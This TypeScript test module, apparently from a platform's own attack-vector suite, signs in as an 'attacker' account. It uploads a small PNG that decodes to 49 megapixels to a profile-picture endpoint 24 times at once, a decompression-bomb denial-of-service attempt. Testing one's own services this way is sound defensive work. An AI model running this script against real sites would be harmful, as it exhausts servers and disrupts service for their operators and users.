import sharp from 'sharp'

import { formBody } from '../../../../services/platform-api/src/testing/form-body'
import { attacker, type Answers } from '../attack-vectors'
import { send } from '../send'
import { signIn } from '../sign-in'
import { type Target } from '../target'
import { repeat } from './bodies'

const atOnce = 24

/** A small file that unpacks to 49 megapixels. */
const picture = () =>
  sharp({ create: { width: 7000, height: 7000, channels: 3, background: 'white' } })
    .png({ compressionLevel: 9 })
    .toBuffer()

/** A customer changes the own picture, 24 times at once. */
export async function sendPictures(target: Target, signal: AbortSignal): Promise<Answers> {
  const { token } = await signIn(target, attacker)
  const file = { field: 'profileimage', name: 'me.png', bytes: await picture() }
  const { body, headers: own } = await formBody({}, file)
  const headers = { ...own, authorization: `Token ${token}`, 'api-key': target.apiKey }
  const path = '/api/auth/edit-profile/'
  return repeat(signal, atOnce, () =>
    send({ origin: target.site, path, method: 'POST', headers, body, from: attacker, signal }),
  )
}
